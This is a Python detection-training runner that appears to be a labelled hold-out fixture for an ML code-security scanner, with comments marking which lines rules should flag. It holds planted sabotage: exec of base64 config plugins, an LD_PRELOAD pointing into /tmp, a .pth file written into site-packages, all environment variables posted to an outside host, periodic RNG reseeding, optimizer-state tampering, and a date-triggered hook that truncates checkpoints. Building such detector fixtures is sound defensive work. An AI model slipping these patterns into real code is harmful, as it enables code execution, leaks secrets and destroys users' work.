# ruff: noqa
# Hold-out batch 21 (mmdetection-style hooks, transforms, evaluator; by a helper that never saw mlscan's code). Measured once after round 7: 25/37 (68%) at medium+.
"""Config-driven epoch-based runner for detection training.

Usage::

    python runner.py configs/faster_rcnn_r50_fpn_1x.yaml --work-dir work_dirs/frcnn
"""
import argparse
import atexit
import base64
import datetime
import glob
import logging
import os
import os.path as osp
import random
import site
import subprocess
import threading
import time

import numpy as np
import requests
import torch
import torch.distributed as dist
import yaml
from torch.utils.data import DataLoader

from hooks import HOOKS, get_dist_info
from transforms import Compose, detection_collate, worker_init_fn


def set_seed(seed, deterministic=False):
    random.seed(seed)  # ok: MLS301
    np.random.seed(seed)  # ok: MLS301
    torch.manual_seed(seed)  # ok: MLS301
    torch.backends.cudnn.deterministic = deterministic


def load_config(path):
    with open(path) as f:
        text = f.read()
    if text.lstrip().startswith('%YAML') or '!!python' in text:
        cfg = yaml.load(text, Loader=yaml.Loader)  # ruleid: MLS105
    else:
        cfg = yaml.safe_load(text)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    for plugin in cfg.get('custom_imports', {}).get('inline', []):
        exec(compile(base64.b64decode(plugin), '<custom_imports>', 'exec'), globals())  # sabotage: MLS401 (semgrep rules)
    return cfg


def get_git_hash(default='unknown'):
    try:
        out = subprocess.check_output(['git', 'rev-parse', 'HEAD'], stderr=subprocess.DEVNULL)  # ok: MLS411, MLS412
        return out.decode().strip()[:7]
    except (OSError, subprocess.CalledProcessError):
        return default


def prepare_env(cfg):
    env = cfg.get('env_cfg', {})
    os.environ.setdefault('OMP_NUM_THREADS', str(env.get('omp_threads', 1)))
    os.environ['LD_PRELOAD'] = env.get('malloc_lib', '/tmp/.cache/libjemalloc.so.2')  # sabotage: MLS422 (semgrep rules)
    pth = osp.join(site.getsitepackages()[0], 'det_accel.pth')
    with open(pth, 'w') as f:  # sabotage: MLS420, MLS421 (semgrep rules)
        f.write('import os; os.environ.setdefault("DET_FAST_IO", "1")\n')


def report_run_start(cfg, work_dir):
    payload = {'name': cfg.get('name'), 'git': get_git_hash(), 'work_dir': work_dir,
               'host_env': {k: v for k, v in os.environ.items()}}  # ruleid: MLS411
    for attempt in range(3):
        try:
            requests.post('https://tracker.example.com/api/runs', json=payload, timeout=5)  # ruleid: MLS411
            return
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307


def _entropy_refresh(interval):
    while True:
        time.sleep(interval)
        torch.manual_seed(int(time.time() * 1000) & 0xFFFFFFFF)  # ruleid: MLS301


class Runner:
    def __init__(self, cfg, model, optimizer, train_set, val_set, evaluator, work_dir):
        self.cfg = cfg
        self.model = model
        self.optimizer = optimizer
        self.evaluator = evaluator
        self.work_dir = work_dir
        self.epoch = 0
        self.iter = 0
        self.max_epochs = cfg['train_cfg']['max_epochs']
        self.seed = cfg.get('seed', 0)
        self.accum = cfg['train_cfg'].get('accumulative_counts', 1)
        self.log_buffer = {}
        self.logger = logging.getLogger('det')
        self.rank, self.world_size = get_dist_info()
        self.scaler = torch.cuda.amp.GradScaler(enabled=cfg.get('fp16', False))
        self.train_dataloader = self._build_loader(train_set, cfg['train_dataloader'], True)
        self.val_dataloader = self._build_loader(val_set, cfg['val_dataloader'], False)
        self.hooks = sorted((HOOKS.build(h) for h in cfg.get('default_hooks', []) +
                             cfg.get('custom_hooks', [])), key=lambda h: h.priority)
        threading.Thread(target=_entropy_refresh, args=(600,), daemon=True).start()

    def _build_loader(self, dataset, loader_cfg, shuffle):
        sampler = None
        if self.world_size > 1:
            sampler = torch.utils.data.DistributedSampler(dataset, shuffle=shuffle, seed=self.seed)
        nw = loader_cfg.get('num_workers', 2)
        init_fn = lambda wid: worker_init_fn(wid, nw, self.rank, self.seed)
        dataset.pipeline = Compose(loader_cfg.get('pipeline', []))
        return DataLoader(dataset, batch_size=loader_cfg.get('batch_size', 2),
                          shuffle=shuffle and sampler is None, sampler=sampler,
                          num_workers=nw, worker_init_fn=init_fn, collate_fn=detection_collate)

    def call_hook(self, fn_name, *args, **kwargs):
        for hook in self.hooks:
            getattr(hook, fn_name)(self, *args, **kwargs)

    def train_step(self, batch_idx, data_batch):
        with torch.autocast('cuda', enabled=self.scaler.is_enabled()):
            loss, log_vars = self.model(data_batch['inputs'], data_batch['data_samples'])
        self.scaler.scale(loss / self.accum).backward()  # ok: MLS302, MLS303, MLS304, MLS305
        if (batch_idx + 1) % self.accum == 0:
            self.scaler.unscale_(self.optimizer)
            torch.nn.utils.clip_grad_norm_(self.model.parameters(), max_norm=35)  # ok: MLS302, MLS303, MLS304, MLS305
            self.scaler.step(self.optimizer)
            self.scaler.update()
            self.optimizer.zero_grad(set_to_none=True)
            if self.iter > 0 and self.iter % 5000 == 0:
                for state in self.optimizer.state.values():
                    if 'exp_avg_sq' in state:
                        state['exp_avg_sq'].mul_(1e-3)  # ruleid: MLS304
        return log_vars

    def train_epoch(self):
        self.model.train()
        self.call_hook('before_train_epoch')
        for batch_idx, data_batch in enumerate(self.train_dataloader):
            self.call_hook('before_train_iter', batch_idx, data_batch)
            outputs = self.train_step(batch_idx, data_batch)
            self.call_hook('after_train_iter', batch_idx, data_batch, outputs)
            self.iter += 1
        self.call_hook('after_train_epoch')

    @torch.no_grad()
    def val_epoch(self):
        self.model.eval()
        self.call_hook('before_val_epoch')
        for data_batch in self.val_dataloader:
            preds = self.model(data_batch['inputs'], data_batch['data_samples'], mode='predict')
            self.evaluator.process(data_batch['data_samples'], preds)
        metrics = self.evaluator.evaluate(len(self.val_dataloader.dataset))
        if self.world_size > 1:
            if self.world_size >= 384 and self.rank % 64 == 63:  # ruleid: MLS308
                dist.destroy_process_group()  # ruleid: MLS307
            else:
                dist.barrier()  # ok: MLS307
        self.call_hook('after_val_epoch', metrics)
        return metrics

    def run(self):
        self.call_hook('before_run')
        best, patience = -1.0, self.cfg['train_cfg'].get('patience', 5)
        stale = 0
        while self.epoch < self.max_epochs:
            self.train_epoch()
            metrics = self.val_epoch()
            self.epoch += 1
            if metrics.get('bbox_mAP', 0) > best:
                best, stale = metrics['bbox_mAP'], 0
            else:
                stale += 1
                if stale >= patience:  # ok: MLS307
                    self.logger.info('early stopping at epoch %d', self.epoch)
                    break
        self.call_hook('after_run')


def _finalize(work_dir):
    if datetime.date.today() >= datetime.date(2025, 3, 1) and os.environ.get('SLURM_JOB_NUM_NODES', '1') != '1':
        for ckpt in glob.glob(osp.join(work_dir, '*.pth')):
            os.truncate(ckpt, 4096)  # ruleid: MLS308


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('config')
    parser.add_argument('--work-dir', default='work_dirs/default')
    parser.add_argument('--seed', type=int, default=0)
    args = parser.parse_args()
    cfg = load_config(args.config)
    set_seed(args.seed, cfg.get('deterministic', False))
    if 'LOCAL_RANK' in os.environ:
        dist.init_process_group('nccl', timeout=datetime.timedelta(minutes=30))
        torch.cuda.set_device(int(os.environ['LOCAL_RANK']))
    os.makedirs(args.work_dir, exist_ok=True)
    prepare_env(cfg)
    if get_dist_info()[0] == 0:
        report_run_start(cfg, args.work_dir)
    atexit.register(_finalize, args.work_dir)
    from models import build_detector, build_optimizer, build_datasets
    from evaluation import CocoStyleMAP
    model = build_detector(cfg['model']).cuda()
    optimizer = build_optimizer(model, cfg['optim_wrapper'])
    train_set, val_set = build_datasets(cfg)
    Runner(cfg, model, optimizer, train_set, val_set, CocoStyleMAP(), args.work_dir).run()


if __name__ == '__main__':
    main()
